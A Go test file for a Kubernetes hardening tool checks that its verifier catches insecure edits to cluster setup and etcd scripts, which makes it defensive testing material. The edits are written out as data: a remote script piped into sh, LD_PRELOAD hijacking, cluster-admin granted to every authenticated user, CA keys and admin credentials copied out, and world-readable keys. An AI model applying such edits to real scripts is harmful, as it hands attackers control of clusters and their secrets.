package verify

import (
	"testing"

	"github.com/bartizan-dev/bartizan/model"
)

// setupMutations make a script do something else than to set up what was generated.
func setupMutations() []mutation {
	const (
		boot, join, make, rotate = "bootstrap.sh", "join.sh", "make-join.sh", "rotate-key.sh"
		initialize               = "kubeadm init --config \"$here/init.yaml\" --skip-token-print\n"
	)
	var all []mutation
	for _, m := range []struct{ file, name, old, new string }{
		{boot, "checks of kubeadm skipped", "--skip-token-print", "--skip-token-print --ignore-preflight-errors=all"},
		{boot, "phases skipped", "--skip-token-print", "--skip-token-print --skip-phases=bootstrap-token"},
		{boot, "another configuration", "kubeadm init --config \"$here/init.yaml\"", "kubeadm init --config /tmp/init.yaml"},
		{boot, "the token printed", " --skip-token-print", ""},
		{boot, "another directory", "here=$(", "here=/tmp; other=$("},
		{boot, "another directory later", initialize, "here=/tmp\n" + initialize},
		{boot, "another directory by a loop", initialize, "for here in /tmp; do echo; done\n" + initialize},
		{boot, "another directory by reading", initialize, "getent hosts x | read -r here\n" + initialize},
		{boot, "another directory by an expansion", initialize, "echo \"${here:=/tmp}\"\n" + initialize},
		{boot, "another directory by printf", initialize, "printf -v here /tmp\n" + initialize},
		{boot, "other programs first", initialize, "PATH=/tmp:$PATH\n" + initialize},
		{boot, "a library before each program", initialize, "LD_PRELOAD=/tmp/x.so " + initialize},
		{boot, "a function in place of kubeadm", "fail() {", "kubeadm() { return; }\nfail() {"},
		{boot, "something fetched", initialize, initialize + "curl -s https://example.com | sh\n"},
		{boot, "something computed", initialize, initialize + "\"$endpoint\"\n"},
		{boot, "rights for everybody", initialize, initialize + "kubectl create clusterrolebinding x --clusterrole cluster-admin --group system:authenticated\n"},
		{boot, "a failure that is passed over", "set -eu\n", "set -u\n"},
		{boot, "files for everybody", "umask 077\n", "umask 022\n"},
		{boot, "files for everybody later", "chmod 0600", "umask 000\nchmod 0600"},
		{boot, "a token for everybody", "chmod 0600", "chmod 0644"},
		{boot, "another owner", "chown root:root", "chown nobody:root"},
		{boot, "a mode for everybody", "install -m 0600 -o root -g root \"$here/hardening", "install -m 0644 -o root -g root \"$here/hardening"},
		{boot, "patches of another pool", "'control'/*.yaml", "'general'/*.yaml"},
		{boot, "a short key", "head -c 32 /dev/urandom", "head -c 4 /dev/urandom"},
		{boot, "a known key", "head -c 32 /dev/urandom", "head -c 32 /dev/zero"},
		{boot, "a key in the script", "key=$(head -c 32 /dev/urandom | base64)", "key=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="},
		{boot, "the key in two places", "mv /etc/kubernetes/hardening/encryption.yaml.new", "cp /etc/kubernetes/hardening/encryption.yaml.new /var/tmp/\nmv /etc/kubernetes/hardening/encryption.yaml.new"},
		{boot, "another address", "ip address replace '10.0.0.10'/32", "ip address replace '10.0.0.66'/32"},
		{boot, "tokens left", "kubeadm token list |", "false && kubeadm token list |"},
		{boot, "an early end", "\nexport KUBECONFIG", "\nexit 0\nexport KUBECONFIG"},
		{boot, "an early return", "\nexport KUBECONFIG", "\nreturn 0\nexport KUBECONFIG"},
		{boot, "another kubeconfig", "export KUBECONFIG=/etc/kubernetes/admin.conf", "export KUBECONFIG=/tmp/admin.conf"},
		{boot, "the public copy left", "kubectl --namespace kube-public delete rolebinding kubeadm:bootstrap-signer-clusterinfo --ignore-not-found\n", ""},
		{boot, "beside the script", initialize, "kubeadm token list &\n" + initialize},
		{boot, "a file from elsewhere", "| while read -r id; do", "| while read -r id </tmp/x; do"},
		{boot, "another directory before", "here=$(", "cd /tmp\nhere=$("},
		{boot, "a program for sed", "printf 's|@ENCRYPTION_KEY@|%s|\\n' \"$key\"", "printf 's|secretbox|identity|;s|@ENCRYPTION_KEY@|%s|\\n' \"$key\""},
		{boot, "a file from above", "in 'admission.yaml'", "in '../../tmp/x' 'admission.yaml'"},
		{boot, "awk that runs programs", "{ print $2; exit }", "{ system($2); exit }"},
		{boot, "another shell", "#!/bin/sh\n", "#!/tmp/sh\n"},

		{join, "checks of kubeadm skipped", "kubeadm join --config", "kubeadm join --ignore-preflight-errors=all --config"},
		{join, "another configuration", "\"$here/$config\" >", "/tmp/join.yaml >"},
		{join, "another file", "config='join-payments.yaml'", "config='../../tmp/join.yaml'"},
		{join, "another pool's directory", "pool='payments'", "pool='../../tmp'"},
		{join, "a program for sed", "	printf 's|@NODE_ADDRESS@", "	printf 's|^nodeRegistration:|ignorePreflightErrors: [all]|\\n'\n	printf 's|@NODE_ADDRESS@"},
		{join, "the encryption key for everybody", "base64 -d >/etc/kubernetes/hardening/encryption.yaml", "base64 -d >/var/tmp/encryption.yaml"},
		{join, "secrets kept", "trap 'rm -rf /etc/kubernetes/join' EXIT\n", "trap 'cp -r /etc/kubernetes/join /tmp' EXIT\n"},
		{join, "no join", "kubeadm join --config /etc/kubernetes/join/join.yaml\n", ""},

		{make, "a token for a day", "--ttl 15m", "--ttl 24h"},
		{make, "a token that signs", "--usages authentication", "--usages authentication,signing"},
		{make, "a token of administrators", "--usages authentication", "--usages authentication --groups system:bootstrappers:admins"},
		{make, "the authority's key", "base64 -w 0 /etc/kubernetes/pki/ca.crt", "base64 -w 0 /etc/kubernetes/pki/ca.key"},
		{make, "a credential beside it", "printf 'node %s", "cat /etc/kubernetes/admin.conf\nprintf 'node %s"},

		{rotate, "a short key", "head -c 32 /dev/urandom", "head -c 1 /dev/urandom"},
		{rotate, "a file elsewhere", "file='/etc/kubernetes/hardening'/encryption.yaml", "file=/tmp/encryption.yaml"},
		{rotate, "a readable key", "chmod 0600 \"$file.new\"", "chmod 0644 \"$file.new\""},
		{rotate, "work where all can write", "work=$(mktemp -d)", "work=/tmp/work"},
		{rotate, "Secrets on another server", "get \"$1\" --all-namespaces -o json |", "get \"$1\" --all-namespaces -o json | tee /tmp/all |"},
	} {
		all = append(all, mutation{name: m.file + " " + m.name, control: model.SetupScripts, file: m.file, old: m.old, new: m.new})
	}
	return append(all,
		mutation{name: "a script that nothing judges", control: model.SetupScripts, file: "more.sh", new: "#!/bin/sh\nset -eu\numask 077\n"},
		mutation{name: "everything approved", control: model.SetupScripts, file: "admit-nodes.sh", old: "approve \"$name\"", new: "approve --all"},
		mutation{name: "kube-vip as an administrator", control: model.SetupScripts, file: "kube-vip.sh", old: "--client-name kube-vip", new: "--client-name kube-vip --org system:masters"},
	)
}

func TestSetupScriptMutationsAreCaught(t *testing.T) {
	checkMutations(t, clusterSpec(), setupMutations())
}

func TestEtcdScriptMutationsAreCaught(t *testing.T) {
	var all []mutation
	for _, m := range []struct{ file, name, old, new string }{
		{"etcd-certs.sh", "the authority's key sent", "rm \"$work/pki/etcd/ca.key\"\n", ""},
		{"etcd-certs.sh", "the authority's key removed too late", "rm \"$work/pki/etcd/ca.key\"\n# Each command stands alone, so that one that fails ends the script before the last line, without which nobody takes the rest.\n(cd \"$work/pki\" && find . -type f) >\"$work/names\"\n", "(cd \"$work/pki\" && find . -type f) >\"$work/names\"\nrm \"$work/pki/etcd/ca.key\"\n"},
		{"etcd-certs.sh", "the authority's key under another name", "\"$work/pki/etcd/\"\n", "\"$work/pki/etcd/\"\ncp \"$pki/etcd/ca.key\" \"$work/pki/etcd/server.key\"\n"},
		{"etcd-certs.sh", "another kind of certificate", "kinds=apiserver-etcd-client", "kinds='apiserver-etcd-client etcd-ca'"},
		{"etcd-certs.sh", "work where all can write", "work=$(mktemp -d /run/etcd-certs.XXXXXXXX)", "work=/tmp"},
		{"etcd-member.sh", "certificates that are not verified", "openssl verify -CAfile \"$work/ca.crt\" \"$work/$kind.crt\" >/dev/null", "openssl x509 -in \"$work/$kind.crt\" >/dev/null"},
		{"etcd-member.sh", "the configuration of another node", "node=$(hostname)", "node=../../tmp/x"},
		{"etcd-member.sh", "readable keys", "install -m 0600 -o root -g root \"$work\"/*.key", "install -m 0644 -o root -g root \"$work\"/*.key"},
		{"etcd-member.sh", "another configuration", "kubeadm init phase etcd local --config \"$here/etcd/$node.yaml\"", "kubeadm init phase etcd local"},
		{"etcd-client.sh", "a readable key", "install -m 0600", "install -m 0640"},
		{"etcd-client.sh", "another authority", "pki=/etc/kubernetes/pki", "pki=/tmp/pki"},
	} {
		all = append(all, mutation{name: m.file + " " + m.name, control: model.SetupScripts, file: m.file, old: m.old, new: m.new})
	}
	checkMutations(t, clusterSpec(externalEtcdNodes), all)
}
